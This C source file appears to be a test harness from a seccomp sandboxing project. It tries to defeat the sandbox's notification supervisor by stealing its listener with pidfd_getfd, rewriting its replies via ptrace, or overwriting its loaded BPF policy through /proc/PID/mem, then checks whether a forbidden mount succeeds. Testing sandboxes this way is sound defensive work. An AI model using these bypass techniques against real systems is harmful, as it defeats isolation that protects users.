/* SPDX-License-Identifier: MIT */
/*
 * attack_take: tries to get at the denyinit that answers for this process's denied calls, and has one of them let
 * through.
 *
 *   attack_take [--userns] WAY PID FOLDER     a tmpfs named "attack" on FOLDER
 *   attack_take grant FILE                    makes FILE a program with CAP_SYS_ADMIN and CAP_SYS_PTRACE (as root)
 *
 *   getfd           every descriptor of PID by pidfd_getfd(2); the listener among them answers: let it through
 *   attach, seize   ptrace(2), and PID's own answers are changed
 *   mem, vm         /proc/PID/mem and process_vm_writev(2): PID's copy of the policy is rewritten
 *   peek            whatever else shows something of PID: a line for each; nothing is mounted by that
 *   nothing         the mount alone
 *
 * --userns: from a new user namespace, with all capabilities there. Whoever mounts is a process of its own that stays
 * outside; without CAP_SYS_ADMIN it makes namespaces of its own. One line at the end:
 *
 *   TAKE way=getfd ptrace=0 got=0 error=EPERM mounted=0
 *
 * ptrace: whether CAP_SYS_PTRACE is effective. mounted: whether it is in /proc/self/mountinfo of who mounts; "hangs" if
 * the call did not come back. Exit status 0; 2 if something else went wrong.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/kcmp.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "init/loaded.h"

#define TRIES 3000          /* of the mount: the real answerer may be faster in some */
#define MOUNT_MS 20000      /* for all of them */
#define DESCRIPTORS 256     /* of PID */
#define REGION_MAX 16777216 /* bytes of one mapping that are searched */

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "attack_take: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* ---- capabilities ---- */

static struct __user_cap_header_struct cap_header = {.version = _LINUX_CAPABILITY_VERSION_3};

/* Raises what is permitted: a file's capabilities come without the effective bit. */
static void raise_capabilities(void)
{
	struct __user_cap_data_struct sets[2];

	if (syscall(SYS_capget, &cap_header, sets) != 0)
		die("capget");
	sets[0].effective = sets[0].permitted;
	sets[1].effective = sets[1].permitted;
	(void)!syscall(SYS_capset, &cap_header, sets); /* an outer filter of attack_outer.c: then it stays as it is */
}

static bool has(int capability)
{
	struct __user_cap_data_struct sets[2];

	if (syscall(SYS_capget, &cap_header, sets) != 0)
		die("capget");
	return (sets[capability / 32].effective >> (capability % 32)) & 1;
}

static int grant(const char *file)
{
	struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2};

	data.data[0].permitted = 1u << CAP_SYS_ADMIN | 1u << CAP_SYS_PTRACE;
	if (setxattr(file, "security.capability", &data, XATTR_CAPS_SZ_2, 0) != 0)
		die(file);
	return 0;
}

static bool write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool written = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (fd >= 0)
		close(fd);
	return written;
}

static void own_users(int flags)
{
	char map[32];

	snprintf(map, sizeof map, "0 %u 1", (unsigned)geteuid());
	if (unshare(CLONE_NEWUSER | flags) != 0)
		die("unshare(CLONE_NEWUSER)");
	/* Not fatal: without a map there are the capabilities all the same. */
	(void)!write_to("/proc/self/setgroups", "deny");
	(void)!write_to("/proc/self/uid_map", map);
}

/* ---- who mounts ---- */

struct mounting {
	int error; /* of the last try */
	int mounted;
};

static int go[2], told[2];

static int mounts_of_ours(void)
{
	char line[4096];
	FILE *file = fopen("/proc/self/mountinfo", "re");
	int count = 0;

	if (!file)
		die("mountinfo");
	while (fgets(line, sizeof line, file))
		count += strstr(line, " - tmpfs attack ") != NULL;
	fclose(file);
	return count;
}

static _Noreturn void mount_when_told(const char *folder)
{
	struct mounting outcome = {0, 0};
	char byte;

	if (!has(CAP_SYS_ADMIN))
		own_users(CLONE_NEWNS);
	if (write(told[1], &outcome, sizeof outcome) != (ssize_t)sizeof outcome || read(go[0], &byte, 1) != 1)
		_exit(2);
	for (int i = 0; i < TRIES && !outcome.mounted; i++) {
		outcome.error = mount("attack", folder, "tmpfs", 0, NULL) == 0 ? 0 : errno;
		outcome.mounted = outcome.error ? 0 : mounts_of_ours();
		sched_yield();
	}
	outcome.mounted = mounts_of_ours();
	_exit(write(told[1], &outcome, sizeof outcome) == (ssize_t)sizeof outcome ? 0 : 2);
}

static pid_t make_mounter(const char *folder)
{
	struct mounting ready;
	pid_t pid;

	if (pipe2(go, O_CLOEXEC) != 0 || pipe2(told, O_CLOEXEC) != 0)
		die("pipe2");
	pid = fork();
	if (pid < 0)
		die("fork");
	if (pid == 0)
		mount_when_told(folder);
	if (read(told[0], &ready, sizeof ready) != (ssize_t)sizeof ready)
		die("who mounts is gone");
	return pid;
}

/* ---- ways ---- */

static pid_t target;
static bool got; /* what the way wants */
static int error;

static void fail(int number)
{
	if (!error)
		error = number;
}

static volatile bool answers;

static void *answer_all(void *listener_of)
{
	const int listener = *(const int *)listener_of;

	answers = true;
	for (;;) {
		struct seccomp_notif call = {0};
		struct seccomp_notif_resp answer = {.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};

		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) != 0)
			continue;
		answer.id = call.id;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
	}
	return NULL;
}

static bool is_listener(int fd)
{
	char path[64], name[64] = "";

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return readlink(path, name, sizeof name - 1) > 0 && strstr(name, "seccomp notify");
}

static void getfd(void)
{
	static int listener = -1;
	pthread_t thread;
	int pidfd = (int)syscall(SYS_pidfd_open, target, 0);

	if (pidfd < 0)
		die("pidfd_open");
	for (int i = 0; i < DESCRIPTORS && listener < 0; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0)
			fail(errno);
		else if (is_listener(fd))
			listener = fd;
	}
	if (listener < 0)
		return;
	got = true;
	if (pthread_create(&thread, NULL, answer_all, &listener) != 0)
		die("thread");
	while (!answers)
		sched_yield();
}

static void attach(void)
{
	if (ptrace(PTRACE_ATTACH, target, NULL, NULL) != 0) {
		fail(errno);
		return;
	}
	got = waitpid(target, NULL, __WALL) == target && ptrace(PTRACE_SYSCALL, target, NULL, NULL) == 0;
}

static void seize(void)
{
	if (ptrace(PTRACE_SEIZE, target, NULL, NULL) != 0) {
		fail(errno);
		return;
	}
	got = ptrace(PTRACE_INTERRUPT, target, NULL, NULL) == 0 && waitpid(target, NULL, __WALL) == target &&
	      ptrace(PTRACE_SYSCALL, target, NULL, NULL) == 0;
}

/* The traced answerer stopped: if it is about to answer, then with another answer. */
static void change_answer(void)
{
	struct user_regs_struct regs;
	int status;

	if (waitpid(target, &status, WNOHANG | __WALL) != target || !WIFSTOPPED(status))
		return;
	if (ptrace(PTRACE_GETREGS, target, NULL, &regs) == 0 && regs.orig_rax == SYS_ioctl &&
	    (uint32_t)regs.rsi == (uint32_t)SECCOMP_IOCTL_NOTIF_SEND) {
		const uint64_t flags = (uint64_t)SECCOMP_USER_NOTIF_FLAG_CONTINUE << 32; /* and error = 0 */

		ptrace(PTRACE_POKEDATA, target, (void *)(regs.rdx + offsetof(struct seccomp_notif_resp, error)),
		       (void *)flags);
	}
	ptrace(PTRACE_SYSCALL, target, NULL, NULL);
}

/* ---- rewriting the policy in the answerer's memory ---- */

static int mem = -1; /* /proc/PID/mem; -1: by process_vm_readv(2) and _writev(2) */

static ssize_t move(bool to_target, uint64_t at, void *bytes, size_t length)
{
	struct iovec here = {bytes, length}, there = {(void *)(uintptr_t)at, length};

	if (mem >= 0)
		return to_target ? pwrite(mem, bytes, length, (off_t)at) : pread(mem, bytes, length, (off_t)at);
	return to_target ? process_vm_writev(target, &here, 1, &there, 1, 0)
	                 : process_vm_readv(target, &here, 1, &there, 1, 0);
}

/* Nothing is denied any more, everything is observed: let through. loaded: where struct loaded is. */
static bool rewrite(uint64_t loaded)
{
	struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_filter observe = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM);
	size_t length = 1;
	const struct {
		size_t offset;
		void *bytes;
		size_t size;
	} changes[] = {
	    {offsetof(struct loaded, program.filter), &allow, sizeof allow},
	    {offsetof(struct loaded, observed_program.filter), &observe, sizeof observe},
	    {offsetof(struct loaded, observed_program.length), &length, sizeof length},
	};

	for (size_t i = 0; i < sizeof changes / sizeof *changes; i++)
		if (move(true, loaded + changes[i].offset, changes[i].bytes, changes[i].size) !=
		    (ssize_t)changes[i].size)
			return false;
	return true;
}

/* The policy's text, of which ATTACK_POLICY is the file, tells where struct loaded is. */
static bool search_and_rewrite(uint64_t first, uint64_t end)
{
	static char memory[REGION_MAX], text[128];
	const char *path = getenv("ATTACK_POLICY");
	int fd = open(path ? path : "", O_RDONLY | O_CLOEXEC);
	ssize_t length, wanted;
	bool done = false;

	wanted = read(fd, text, sizeof text);
	close(fd);
	if (wanted < 10)
		die("ATTACK_POLICY");
	length = move(false, first, memory, end - first < REGION_MAX ? end - first : REGION_MAX);
	if (length < 0)
		fail(errno);
	for (ssize_t i = 0; i + wanted <= length; i++)
		if (memcmp(memory + i, text, (size_t)wanted) == 0)
			done = rewrite(first + (uint64_t)i - offsetof(struct loaded, text)) || done;
	return done;
}

static void through_maps(void)
{
	char path[64], line[512], permissions[5];
	unsigned long long first, end;
	FILE *maps;

	snprintf(path, sizeof path, "/proc/%d/maps", (int)target);
	maps = fopen(path, "re");
	if (!maps) {
		char byte;

		fail(errno);
		(void)move(false, 4096, &byte, 1); /* the permission is looked at before the address */
		fail(errno);
		return;
	}
	while (fgets(line, sizeof line, maps))
		/* the kernel's own text: NOLINTNEXTLINE(cert-err34-c) */
		if (sscanf(line, "%llx-%llx %4s", &first, &end, permissions) == 3 && permissions[1] == 'w')
			got = search_and_rewrite(first, end) || got;
	if (ferror(maps))
		fail(errno);
	fclose(maps);
}

static void rewrite_by_mem(void)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/mem", (int)target);
	mem = open(path, O_RDWR | O_CLOEXEC);
	if (mem < 0)
		fail(errno);
	else
		through_maps();
}

static void rewrite_by_vm(void)
{
	char byte = 0;

	if (move(false, 4096, &byte, 1) < 0 && errno != EFAULT)
		fail(errno);
	if (move(true, 4096, &byte, 1) < 0 && errno != EFAULT)
		fail(errno);
	through_maps();
}

/* ---- what only shows something ---- */

static void peeked(const char *what, bool seen)
{
	const int number = errno;

	printf("PEEK %s %s\n", what, seen ? "seen" : strerrorname_np(number));
	got = got || seen;
	if (!seen)
		fail(number);
}

static void peek_link(const char *name)
{
	char path[64], to[256];

	snprintf(path, sizeof path, "/proc/%d/%s", (int)target, name);
	peeked(name, readlink(path, to, sizeof to) > 0);
}

static void peek_file(const char *name, int flags)
{
	char path[64], byte;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", (int)target, name);
	fd = open(path, flags | O_CLOEXEC);
	peeked(name, fd >= 0 && (flags == O_WRONLY || read(fd, &byte, 1) == 1));
	if (fd >= 0)
		close(fd);
}

/* Where the maps can be read (by CAP_PERFMON since Linux 6.14), what they lead to cannot. */
static void peek_map_files(void)
{
	char path[64], name[64], line[512], to[256];
	unsigned long long first, end;
	FILE *maps;
	int seen = 0;

	snprintf(path, sizeof path, "/proc/%d/maps", (int)target);
	maps = fopen(path, "re");
	while (maps && fgets(line, sizeof line, maps))
		/* the kernel's own text: NOLINTNEXTLINE(cert-err34-c) */
		if (sscanf(line, "%llx-%llx", &first, &end) == 2) {
			snprintf(name, sizeof name, "/proc/%d/map_files/%llx-%llx", (int)target, first, end);
			seen += readlink(name, to, sizeof to) > 0;
		}
	if (maps)
		fclose(maps);
	errno = seen ? 0 : EACCES;
	peeked("map_files/N", seen > 0);
}

static void peek(void)
{
	void *head[2];
	int fds_seen = 0;

	for (int i = 0; i < DESCRIPTORS; i++) {
		char path[64], to[256];

		snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)target, i);
		fds_seen += readlink(path, to, sizeof to) > 0 || open(path, O_RDWR | O_CLOEXEC) >= 0;
	}
	errno = fds_seen ? 0 : EACCES;
	peeked("fd/N", fds_seen > 0);
	peek_map_files();
	peek_file("syscall", O_RDONLY);
	peek_file("mem", O_WRONLY);
	peek_link("exe");
	peek_link("cwd");
	peek_link("root");
	peek_link("ns/mnt");
	peeked("kcmp", syscall(SYS_kcmp, getpid(), target, KCMP_FILES, 0, 0) >= 0);
	peeked("kcmp-file", syscall(SYS_kcmp, getpid(), target, KCMP_FILE, 0, 0) >= 0);
	peeked("get_robust_list", syscall(SYS_get_robust_list, target, &head[0], &head[1]) == 0);
}

static void nothing(void)
{
}

static const struct way {
	const char *name;
	void (*take)(void);
	void (*work)(void); /* again and again, while the mount is tried */
} ways[] = {
    {"getfd", getfd, nothing},        {"attach", attach, change_answer}, {"seize", seize, change_answer},
    {"mem", rewrite_by_mem, nothing}, {"vm", rewrite_by_vm, nothing},    {"peek", peek, nothing},
    {"nothing", nothing, nothing},
};

static int attack(const struct way *way, const char *folder, bool userns)
{
	struct mounting outcome = {.mounted = -1};
	pid_t mounter;
	int waited;

	raise_capabilities();
	mounter = make_mounter(folder);
	if (userns)
		own_users(0);
	way->take();
	if (write(go[1], "", 1) != 1)
		die("who mounts is gone");
	for (waited = 0; waited < MOUNT_MS; waited++) {
		struct pollfd fd = {.fd = told[0], .events = POLLIN};

		if (got)
			way->work();
		if (poll(&fd, 1, 1) == 1 && read(told[0], &outcome, sizeof outcome) == (ssize_t)sizeof outcome)
			break;
	}
	printf("TAKE way=%s ptrace=%d got=%d error=%s mounted=", way->name, has(CAP_SYS_PTRACE), got,
	       error ? strerrorname_np(error) : "0");
	if (outcome.mounted < 0)
		printf("hangs\n");
	else
		printf("%d\n", outcome.mounted);
	fflush(stdout);
	kill(mounter, SIGKILL);
	_exit(0); /* with its thread */
}

int main(int argc, char **argv)
{
	bool userns = argc > 1 && strcmp(argv[1], "--userns") == 0;

	argc -= userns;
	argv += userns;
	if (argc == 3 && strcmp(argv[1], "grant") == 0)
		return grant(argv[2]);
	if (argc == 4) {
		target = (pid_t)strtol(argv[2], NULL, 10);
		for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
			if (strcmp(argv[1], ways[i].name) == 0)
				return attack(&ways[i], argv[3], userns);
	}
	fprintf(stderr, "usage: attack_take [--userns] getfd|attach|seize|mem|vm|peek|nothing PID FOLDER\n");
	return 2;
}
